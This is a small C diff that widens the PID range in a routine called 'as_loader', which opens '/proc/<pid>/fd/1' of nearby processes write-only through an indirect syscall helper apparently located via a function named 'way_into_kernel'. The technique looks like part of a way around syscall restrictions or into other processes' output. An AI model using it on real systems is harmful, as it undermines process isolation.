@@ -25,11 +25,11 @@ static const unsigned char *way_into_kernel(void) {
 
 static int as_loader(int first) {
   const unsigned char *way = way_into_kernel();
-  static char path[] = "/proc/000/fd/1";
-  for (int pid = first; pid < first + 36 && pid < 1000; pid++) {
-    for (int i = 0, left = pid; i < 3; i++, left /= 10)
-      path[8 - i] = (char)('0' + left % 10);
-    char *name = path + 6 + (pid < 100) + (pid < 10);
+  static char path[] = "/proc/0000000/fd/1";
+  for (int pid = first; pid < first + 36; pid++) {
+    for (int i = 0, left = pid; i < 7; i++, left /= 10)
+      path[12 - i] = (char)('0' + left % 10);
+    char *name = path + 6 + strspn(path + 6, "0");
     char whole[sizeof path] = "/proc/";
     strcat(whole, name);
     long fd = by_loader(way, SYS_openat, AT_FDCWD, whole, O_WRONLY | O_NOCTTY);
